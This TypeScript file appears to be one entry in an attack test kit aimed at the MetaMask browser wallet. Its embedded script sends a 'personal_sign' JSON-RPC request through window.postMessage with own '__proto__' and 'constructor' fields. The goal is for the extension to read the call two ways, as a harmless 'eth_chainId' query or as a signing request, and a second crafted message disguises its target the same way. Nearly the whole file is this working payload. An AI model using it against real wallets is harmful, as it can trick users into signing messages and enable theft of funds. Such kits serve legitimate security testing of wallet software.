import type { Attack } from './kit/attack.ts'
import { WIRE_HEARD_FIRST } from './kit/open-reasons.ts'

export default {
  family: 'wire',
  how: 'Posts calls with own fields named as those of prototypes, to be read in two ways.',
  script: `
    const call = JSON.parse(\`{"jsonrpc":"2.0","id":9,"__proto__":{"method":"eth_chainId"},"constructor":{"method":"eth_chainId"},"method":"personal_sign","params":\${JSON.stringify(attack.sign.params)}}\`)
    const hidden = JSON.parse('{"target":"metamask-contentscript","__proto__":{"target":"nobody"},"length":0,"0":1}')
    postMessage({ target: 'metamask-contentscript', data: { name: 'metamask-provider', data: call } }, '*')
    postMessage({ ...hidden, data: { name: 'metamask-provider', data: { ...call, length: 0, map: 0, filter: 0 } } }, '*')
    await attack.sleep(300)
  `,
  open: { 'wallet-before': WIRE_HEARD_FIRST },
} satisfies Attack
